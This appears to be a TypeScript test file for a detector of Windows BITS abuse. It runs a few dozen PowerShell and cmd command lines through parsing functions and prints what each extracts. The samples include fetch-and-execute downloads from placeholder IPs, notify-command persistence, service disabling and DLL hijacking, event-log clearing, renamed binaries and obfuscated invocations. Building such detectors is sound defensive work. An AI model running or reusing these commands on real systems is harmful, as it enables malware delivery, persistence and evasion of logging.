import { processFacts, scriptFacts, rowFacts } from './rows.js';
import { writeSync } from 'node:fs';
test('t', () => {
  const show = (name: string, f: ReturnType<typeof processFacts>) => writeSync(2, `${name.slice(0,110)}\n    => ${f ? JSON.stringify([f.tools, f.verbs, f.jobs, f.transfers.map(t=>[t.direction,t.source?.text,t.destination?.text]), f.notify, f.settings, f.carriers, f.hidden, f.others, f.hasCredentials, f.decoded]) : 'NOTHING'}\n`);
  for (const s of [
    "Set-BitsTransfer -BitsJob $j -NotifyCmdLine 'C:\\d\\a.exe','-x' -NotifyFlags 1",
    "$j = Start-BitsTransfer -Source http://198.51.100.7/a -Destination C:\\d\\a -Asynchronous -NotifyCmdLine \"C:\\Windows\\System32\\cmd.exe /c C:\\d\\a.exe\"; while ($j.JobState -ne 'Transferred') { sleep 1 }; Complete-BitsTransfer -BitsJob $j; & C:\\d\\a.exe",
    "$c = Get-Credential; Start-BitsTransfer -Source https://a.example/x -Destination C:\\d\\x -Credential $c -Authentication Basic -ProxyUsage Override -ProxyList http://192.0.2.9:8080",
    "$t=[Type]::GetTypeFromCLSID('4991d34b-80a1-4291-83b6-3328366b9097'); $m=[Activator]::CreateInstance($t)",
    "New-Object -ComObject BITS.Manager.5.0",
    "[Reflection.Assembly]::LoadWithPartialName('Microsoft.BackgroundIntelligentTransfer.Management')",
    "Add-Type -TypeDefinition 'using System; [ComImport, Guid(\"5ce34c0d-0dc9-4c1f-897c-daa1b78cee7c\")] interface IBackgroundCopyManager {}'",
    "$m=New-Object Microsoft.BackgroundIntelligentTransfer.Management.BitsManager; $m.CreateJob('x')",
    "[Microsoft.BackgroundIntelligentTransfer.Management.BitsManager]::new()",
    "foreach ($u in 'http://198.51.100.7/a','http://198.51.100.7/b') { Start-BitsTransfer $u C:\\d\\ }",
    "Import-Csv f.csv | ForEach-Object { Start-BitsTransfer -Source $_.Source -Destination $_.Destination }",
    "Get-BitsTransfer -Name x | Resume-BitsTransfer -Asynchronous",
    "Set-Service -Name BITS -StartupType Disabled", "Get-Service bits | Stop-Service -Force", "Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\BITS -Name Start -Value 4",
    "Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\BITS\\Parameters' ServiceDll C:\\d\\q.dll",
    "Invoke-CimMethod -Namespace root/microsoft/bits -ClassName BitsClientJob -MethodName CreateJob -Arguments @{DisplayName='u';RemoteUrl='https://www.example.net/p';LocalFile='C:\\d\\p';Type=1} -ComputerName srv01",
    "bitsadmin /create j; bitsadmin /addfile j http://198.51.100.7/a C:\\d\\a; bitsadmin /setnotifycmdline j cmd.exe \"cmd.exe /c C:\\d\\a\"; bitsadmin /resume j",
    "& bitsadmin.exe /transfer j http://198.51.100.7/a $env:TEMP\\a.exe | Out-Null",
    "Copy-Item C:\\Windows\\System32\\bitsadmin.exe C:\\Users\\Public\\b.exe",
    "Clear-WinEvent Microsoft-Windows-Bits-Client/Operational",
    "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Microsoft-Windows-Bits-Client/Operational')",
    "Start-BitsTransfer -Source \"http://$h/a.exe\" -Destination \"$env:APPDATA\\a.exe\"",
    "$h='198.51.100.7'; Start-BitsTransfer -Source \"http://$h/a.exe\" -Destination (Join-Path $env:TEMP 'a.exe')",
    "$s = New-PSSession srv; Invoke-Command -Session $s { Start-BitsTransfer http://198.51.100.7/a C:\\d\\a }",
    "[Net.WebClient]::new().DownloadString('http://a.example'); if (!(Test-Path x)) { Start-BitsTransfer -Source $url -Destination $out -EA Stop }",
    "param($Url)\nfunction Get-File {\n  [CmdletBinding()] param([string]$Url, [string]$Out = 'C:\\d')\n  Start-BitsTransfer -Source $Url -Destination $Out -Description 'x'\n}\nGet-File 'http://a.example/b'",
    "Start-BitsTransfer -Source http://a.example/x.txt -Destination x.txt; Invoke-WebRequest http://a.example",
    "${Start`-Bits}='a'; & \"Start-Bits$('Trans')fer\" http://198.51.100.7/a C:\\d\\a",
    "$a='Start-Bits'; $a+='Transfer'; &$a http://198.51.100.7/a C:\\d\\a",
    "&(\"{0}{1}\"-f'Start-Bi','tsTransfer') -So 'http://198.51.100.7/a' -De 'C:\\d\\a'",
    "iex(\"{0}{1}\" -f 'Start-BitsTransfer http://198.51.100.7/a ','C:\\d\\a')",
    ".('sal') x ('Start-'+'BitsTransfer');x http://198.51.100.7/a C:\\d\\a",
    "&(alias x)",
    "(gcm Start-Bits*).Invoke()",
    "$x=@{}; $x.Source='http://198.51.100.7/a'; $x['Destination']='C:\\d\\a'; Start-BitsTransfer @x",
    "Start-Process -FilePath powershell.exe -ArgumentList '-w hidden -c Start-BitsTransfer http://198.51.100.7/a C:\\d\\a' -Verb RunAs",
    "[System.Diagnostics.Process]::Start('bitsadmin','/transfer j http://198.51.100.7/a C:\\d\\a')",
    "(New-Object -ComObject WScript.Shell).Run('bitsadmin /transfer j http://198.51.100.7/a C:\\d\\a')",
  ]) show(s, scriptFacts(s));
  for (const l of [
    'bitsadmin /setcredentials j SERVER BASIC user1 secretpw', 'bitsadmin /setcustomheaders j "Authorization: Bearer abc"', 'bitsadmin /transfer j http://u:pw@198.51.100.7:8080/a C:\\d\\a', 'bitsadmin /util /setieproxy localsystem MANUAL_PROXY 192.0.2.9:8080 NULL',
    'bitsadmin /list /allusers /verbose', 'bitsadmin /create /download /priority high j', 'bitsadmin /transfer j /dynamic http://a.example/a C:\\d\\a http://a.example/b C:\\d\\b',
    'cmd /c "bitsadmin /create j & bitsadmin /addfile j http://a.example/a C:\\d\\a & bitsadmin /SetNotifyCmdLine j C:\\d\\a NULL & bitsadmin /SetMinRetryDelay j 60 & bitsadmin /resume j"',
    'wmic service where name="bits" call changestartmode disabled', "wmic service where \"name='BITS'\" call stopservice", 'sc \\\\srv config BITS start= disabled', 'sc config bits start=disabled', 'net stop "Background Intelligent Transfer Service" /y', 'sc sdset bits D:(A)', 'sc delete bits', 'PsService.exe \\\\srv stop BITS',
    'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\BITS\\Parameters" /v ServiceDll /t REG_EXPAND_SZ /d C:\\d\\q.dll /f', 'reg add HKLM\\SYSTEM\\ControlSet001\\Services\\BITS /v Start /t REG_DWORD /d 4 /f', 'cmd /c set "SYSTEMROOT=C:\\Windows\\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:https://a.example/x.ps1 /eventName:x', 'rundll32.exe -sta {4991D34B-80A1-4291-83B6-3328366B9097}',
    'xcopy C:\\Windows\\System32\\bitsadmin.exe C:\\d\\ /Y', 'cmd /c "net stop bits & sc config bits start= disabled & bitsadmin /reset /allusers"', 'powershell -c "net stop bits"', '/c notepad.exe',
    'cmd.exe /c "%CommonProgramFiles:~3,1%x"', 'cmd /c %windir%\\system32\\bitsadmin /transfer j http://a.example/a %tmp%\\a', 'C:\\d\\x.exe /create j', 'C:\\d\\x.exe /resume j',
  ]) show(l, processFacts(l));
  show('renamed', processFacts('x.exe /resume j', { Image: 'C:\\d\\x.exe', OriginalFileName: 'bitsadmin.exe' }));
  show('cim', rowFacts({ 'Processes.process': 'bitsadmin /transfer j http://a.example/a C:\\d\\a', 'Processes.process_name': 'bitsadmin.exe', 'Processes.parent_process_name': 'winword.exe' }));
  show('win7', rowFacts({ CommandLine: '/c notepad.exe', Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: 'C:\\Windows\\System32\\svchost.exe', ParentCommandLine: 'C:\\Windows\\system32\\svchost.exe -k netsvcs' }));
  show('cim svc', rowFacts({ service_name: 'BITS', start_mode: 'Disabled', status: 'stopped' }));
  show('proxy', rowFacts({ http_user_agent: 'Microsoft BITS/7.8', http_method: 'HEAD', url: 'http://a.example/x.exe?y=1', dest: 'a.example' }));
  const rows = [{ CommandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p', Image: 'C:\\Windows\\System32\\svchost.exe', ParentImage: 'C:\\Windows\\System32\\services.exe', EventCode: '1' }, { CommandLine: '"C:\\Program Files\\A\\a.exe" --type=renderer --field-trial=1,2,3 "x y"', Image: 'C:\\Program Files\\A\\a.exe', EventCode: '1' }, { CommandLine: 'bitsadmin /transfer j http://a.example/a C:\\d\\a', Image: 'C:\\Windows\\System32\\bitsadmin.exe', EventCode: '1' }, { CommandLine: 'powershell -c "Start-BitsTransfer http://198.51.100.7/a C:\\d\\a"', Image: 'powershell.exe', EventCode: '1' }];
  for (const row of rows) { for (let i = 0; i < 20000; i++) rowFacts(row); const t = performance.now(); for (let i = 0; i < 50000; i++) rowFacts(row); writeSync(2, `${(performance.now() - t) / 50} us ${row.CommandLine.slice(0, 40)}\n`); }
});
